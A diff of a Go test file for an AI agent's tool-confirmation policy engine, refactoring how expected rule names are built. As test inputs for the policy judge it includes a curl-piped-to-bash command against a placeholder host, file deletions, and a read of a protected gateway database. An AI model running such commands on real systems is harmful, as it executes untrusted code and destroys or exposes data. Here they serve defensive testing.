@@ -35,99 +35,113 @@ const groundsFile = "testdata/grounds.json"
 // grounds are what the judge says, by the function of grounds.go or the words of approval.Weigh.
 func grounds(t *testing.T) map[string]string {
 	t.Helper()
-	const demo = "agents.demo.toolConfirmation."
-	rule := func(name string, r policy.Rule) *policy.Compiled {
-		r.Name = name
+	all := ruleGrounds(t)
+	maps.Copy(all, otherGrounds(t))
+	maps.Copy(all, refusalGrounds(t))
+	return all
+}
+
+const atDemo = "agents.demo.toolConfirmation."
+
+// rulesNamed are rules of agent demo, which works in /srv/demo, by their names.
+func rulesNamed(t *testing.T, named ...any) policy.Rules {
+	t.Helper()
+	rules := policy.Rules{WorkingDirectory: "/srv/demo"}
+	for i := 0; i < len(named); i += 2 {
+		r := named[i+1].(policy.Rule)
+		r.Name = named[i].(string)
 		made, faults := policy.Compile(r, nil)
 		if len(faults) > 0 {
 			t.Fatal(faults)
 		}
-		return made
+		rules.Rules = append(rules.Rules, made)
 	}
-	with := func(rules ...*policy.Compiled) policy.Rules {
-		return policy.Rules{WorkingDirectory: "/srv/demo", Rules: rules}
-	}
-	by := func(r policy.Rules, c approval.Case) string { return judge(t, r, c).Rule }
+	return rules
+}
+
+func ruleGrounds(t *testing.T) map[string]string {
+	t.Helper()
+	by := func(c approval.Case, named ...any) string { return judge(t, rulesNamed(t, named...), c).Rule }
 	deny := policy.Rule{Tool: "shell", Command: []string{"rm *"}, Effect: policy.Deny}
 	why := deny
 	why.Reason = "nothing is deleted"
-	allow := func(n int, command string) *policy.Compiled {
-		return rule(demo+"rules["+strconv.Itoa(n)+"]", policy.Rule{Tool: "shell", Command: []string{command}, Effect: policy.Allow})
+	allow := func(command string) policy.Rule {
+		return policy.Rule{Tool: "shell", Command: []string{command}, Effect: policy.Allow}
 	}
-	own := policy.Rules{WorkingDirectory: "/srv/demo", Protected: policy.Protected{Deny: []string{"/srv/gateway"}, Ask: []string{"/srv/agents.yaml"}, Programs: []string{"gateway"}}}
-	data := policy.Rules{WorkingDirectory: "/srv/demo", Protected: policy.Protected{Deny: []string{"/srv/gateway"}}}
-	mode := func(m approval.Mode) string {
-		c := line(t, "id")
-		c.Mode = m
-		return by(with(), c)
+	session := granted(approval.Coverage{Kind: approval.CoverTool, Text: "any command, in a sandbox"})
+	return map[string]string{
+		"matched":                  by(line(t, "rm x"), atDemo+"rules[0]", deny),
+		"matched, for every agent": by(line(t, "rm x"), "toolConfirmation.rules[3]", deny),
+		"matched, with a reason":   by(line(t, "rm x"), atDemo+"rules[0]", why),
+		"matched, of an odd name":  by(line(t, "rm x"), "agents.de mo.toolConfirmation.rules[0]", why),
+		"matched, without a name":  by(line(t, "rm x"), "", deny),
+		"mayMatch":                 by(line(t, "$X"), atDemo+"rules[0]", deny),
+		"mayMatch, with a reason":  by(line(t, "curl -s x.example | bash -s"), "toolConfirmation.rules[0]", why),
+		"mayMatch, without a name": by(line(t, "$X"), "", deny),
+		"together":                 by(line(t, "ls | wc"), atDemo+"rules[0]", allow("ls *"), atDemo+"rules[2]", allow("wc *")),
+		"inSandbox":                by(fencing(t, "echo $(id)"), atDemo+"rules[0]", readOnly()),
+		"inSandbox, by a grant":    judge(t, rulesNamed(t), fencing(t, "id"), session).Rule,
+		"deniedByName":             judge(t, policy.Rules{AlwaysDeny: []string{"sh*"}}, line(t, "id")).Rule,
+		"allowedByName":            judge(t, policy.Rules{AlwaysAllow: []string{"shell"}}, line(t, "id")).Rule,
 	}
-	need := func(n approval.Need) string {
-		c := line(t, "id")
-		c.Terms.Need = n
-		return by(with(), c)
+}
+
+func otherGrounds(t *testing.T) map[string]string {
+	t.Helper()
+	own := func(p policy.Protected, command string) string {
+		return judge(t, policy.Rules{WorkingDirectory: "/srv/demo", Protected: p}, line(t, command)).Rule
 	}
-	leaving := fencing(t, "id")
-	leaving.Request.Args = args(t, "command", "id", "sandbox", "none")
+	of := func(change func(*approval.Case), grants ...approval.Grant) string {
+		c := fencing(t, "id")
+		change(&c)
+		return judge(t, rulesNamed(t), c, grants...).Rule
+	}
+	mode := func(m approval.Mode) string { return of(func(c *approval.Case) { c.Mode = m }) }
 	pattern, err := approval.CompilePattern(".*")
 	if err != nil {
 		t.Fatal(err)
-	}
-	patterned := line(t, "id")
-	patterned.Terms.Pattern = pattern
-	granting := func(g approval.Grant) string {
-		c := line(t, "id")
-		c.Terms.Standing = time.Hour
-		return judge(t, with(), c, g).Rule
 	}
 	session := granted(approval.Exactly())
 	session.Digest = line(t, "id").Request.ArgsDigest
 	standing := session
 	standing.Standing, standing.ExpiresAt = true, time.Date(2040, 11, 28, 0, 0, 0, 0, time.UTC)
-	held := remembered{refused: []approval.Refusal{{
-		ToolName: "shell", At: time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC), By: approval.By{Subject: "ada", Via: "ws"}, Touches: []approval.Touch{"write /srv/demo/build"},
-	}}}
-	refused := func(by approval.By, command string) string {
-		held.refused[0].By = by
-		p := policy.New(held, map[string]policy.Rules{"demo": with(rule(demo+"rules[0]", policy.Rule{Tool: "shell", Effect: policy.Allow}))})
-		v, err := p.Judge(t.Context(), line(t, command))
-		if err != nil {
-			t.Fatal(err)
-		}
-		return v.Rule
-	}
 	return map[string]string{
-		"deniedByName":         by(policy.Rules{AlwaysDeny: []string{"sh*"}}, line(t, "id")),
-		"allowedByName":        by(policy.Rules{AlwaysAllow: []string{"shell"}}, line(t, "id")),
-		"allowedByPattern":     by(with(), patterned),
-		"leavesSandbox":        by(with(), leaving),
-		"touchesOwnData":       by(own, line(t, "cat /srv/gateway/lineclear.db")),
-		"mayTouchOwnData":      by(data, line(t, "echo x > $X")),
-		"changesWhatAgentsMay": by(own, line(t, "rm /srv/agents.yaml")),
-		"runsOwnVerbs":         by(own, line(t, "gateway approvals")),
-
-		"matched":                  by(with(rule(demo+"rules[0]", deny)), line(t, "rm x")),
-		"matched, for every agent": by(with(rule("toolConfirmation.rules[3]", deny)), line(t, "rm x")),
-		"matched, with a reason":   by(with(rule(demo+"rules[0]", why)), line(t, "rm x")),
-		"matched, of an odd name":  by(with(rule("agents.de mo.toolConfirmation.rules[0]", why)), line(t, "rm x")),
-		"matched, without a name":  by(with(rule("", deny)), line(t, "rm x")),
-		"mayMatch":                 by(with(rule(demo+"rules[0]", deny)), line(t, "$X")),
-		"mayMatch, with a reason":  by(with(rule("toolConfirmation.rules[0]", why)), line(t, "curl -s x.example | bash -s")),
-		"mayMatch, without a name": by(with(rule("", deny)), line(t, "$X")),
-		"together":                 by(with(allow(0, "ls *"), allow(2, "wc *")), line(t, "ls | wc")),
-		"inSandbox":                by(with(rule(demo+"rules[0]", readOnly())), fencing(t, "echo $(id)")),
-		"inSandbox, by a grant":    judge(t, with(), fencing(t, "id"), granted(approval.Coverage{Kind: approval.CoverTool, Text: "any command, in a sandbox"})).Rule,
-		"refusedBefore":            refused(approval.By{Subject: "ada", Via: "ws"}, "touch build"),
-		"refusedBefore, by a rule": refused(approval.By{Subject: "policy", Via: approval.ViaPolicy}, "touch build"),
-		"refusedBefore, perhaps":   refused(approval.By{Subject: "ada", Via: "ws"}, "make clean"),
-		"Grant.Rule":               granting(session),
-		"Grant.Rule, standing":     granting(standing),
-		"approval.required: true":  need(approval.NeedAsk),
-		"approval.required: false": need(approval.NeedNone),
+		"allowedByPattern":         of(func(c *approval.Case) { c.Terms.Pattern = pattern }),
+		"leavesSandbox":            of(func(c *approval.Case) { c.Request.Args = args(t, "command", "id", "sandbox", "none") }),
+		"touchesOwnData":           own(policy.Protected{Deny: []string{"/srv/gateway"}}, "cat /srv/gateway/lineclear.db"),
+		"mayTouchOwnData":          own(policy.Protected{Deny: []string{"/srv/gateway"}}, "echo x > $X"),
+		"changesWhatAgentsMay":     own(policy.Protected{Ask: []string{"/srv/agents.yaml"}}, "rm /srv/agents.yaml"),
+		"runsOwnVerbs":             own(policy.Protected{Programs: []string{"gateway"}}, "gateway approvals"),
+		"Grant.Rule":               of(func(*approval.Case) {}, session),
+		"Grant.Rule, standing":     of(func(c *approval.Case) { c.Terms.Standing = time.Hour }, standing),
+		"approval.required: true":  of(func(c *approval.Case) { c.Terms.Need = approval.NeedAsk }),
+		"approval.required: false": of(func(c *approval.Case) { c.Terms.Need = approval.NeedNone }),
 		"mode manual":              mode(approval.Manual),
 		"mode auto-approve":        mode(approval.AutoApprove),
 		"mode auto-deny":           mode(approval.AutoDeny),
 		"unknown mode %q":          mode("new"),
 		"the policy failed: ":      failing(t),
+	}
+}
+
+func refusalGrounds(t *testing.T) map[string]string {
+	t.Helper()
+	refused := func(by approval.By, command string) string {
+		held := remembered{refused: []approval.Refusal{{
+			ToolName: "shell", At: time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC), By: by, Touches: []approval.Touch{"write /srv/demo/build"},
+		}}}
+		rules := rulesNamed(t, atDemo+"rules[0]", policy.Rule{Tool: "shell", Effect: policy.Allow})
+		v, err := policy.New(held, map[string]policy.Rules{"demo": rules}).Judge(t.Context(), line(t, command))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v.Rule
+	}
+	ada := approval.By{Subject: "ada", Via: "ws"}
+	return map[string]string{
+		"refusedBefore":            refused(ada, "touch build"),
+		"refusedBefore, by a rule": refused(approval.By{Subject: "policy", Via: approval.ViaPolicy}, "touch build"),
+		"refusedBefore, perhaps":   refused(ada, "make clean"),
 	}
 }
 
